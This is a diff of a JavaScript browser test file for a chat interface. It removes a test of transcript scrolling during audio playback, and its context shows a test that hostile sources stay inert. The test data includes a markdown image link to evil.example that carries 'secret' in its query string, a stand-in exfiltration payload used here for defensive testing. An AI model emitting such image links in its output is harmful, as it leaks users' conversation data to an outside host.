@@ -1,5 +1,5 @@
 import { check, until } from "../browser.mjs";
-import { ChatPage, QUESTION, RECORDED } from "../chatPage.mjs";
+import { ChatPage, QUESTION } from "../chatPage.mjs";
 
 const EVIL = [
   "![tracker](https://evil.example/pixel.png?said=secret)",
@@ -140,42 +140,6 @@ export async function hostileSourcesAreInert(context) {
   check(!(await page.title()).includes("owned"), "a script of the source ran");
   const elsewhere = asked.filter((url) => !url.startsWith(process.env.BASE_URL));
   check(elsewhere.length === 0, `fetched ${elsewhere.join(", ")}`);
-}
-
-/** The transcript goes along with the sound until the reader looks elsewhere. */
-export async function transcriptFollowsTheSound(context) {
-  const chat = await ChatPage.open(context);
-  await chat.page.setViewportSize({ width: 1280, height: 420 }); // so that the transcript scrolls
-  await chat.ask(RECORDED);
-  await chat.ends();
-  await chat.page.locator(".answer .md .mark").first().click();
-  const { page } = chat;
-  await page.locator(".line--playing").waitFor();
-  const seek = (second) =>
-    page.evaluate((to) => {
-      document.querySelector("audio").currentTime = to;
-    }, second);
-  const playing = () =>
-    page.evaluate(() => {
-      const line = document.querySelector(".line--playing");
-      const view = document.querySelector(".transcript").getBoundingClientRect();
-      const { top, bottom } = line?.getBoundingClientRect() ?? { top: -1, bottom: -1 };
-      const start = line?.querySelector(".line-time").textContent ?? "";
-      return { start, isInView: top >= view.top - 1 && bottom <= view.bottom + 1 };
-    });
-  const top = () => page.evaluate(() => document.querySelector(".transcript").scrollTop);
-  const end = await page.evaluate(() => document.querySelector("audio").duration);
-  await seek(end - 8);
-  const late = await until("a late line in view", playing, ({ isInView }) => isInView);
-  await seek(4);
-  const early = (line) => line.start !== late.start && line.isInView;
-  const first = await until("an early line in view", playing, early);
-  await page.locator(".transcript").hover();
-  await page.mouse.wheel(0, 5_000);
-  const chosen = await until("the reader's place", top, (now) => now > 100);
-  await seek(30);
-  await until("another line", playing, (line) => line.start !== first.start);
-  check(Math.abs((await top()) - chosen) < 2, "the transcript scrolled away from the reader");
 }
 
 /** Everything the live region says, in order: stages, whole sentences, the end. */
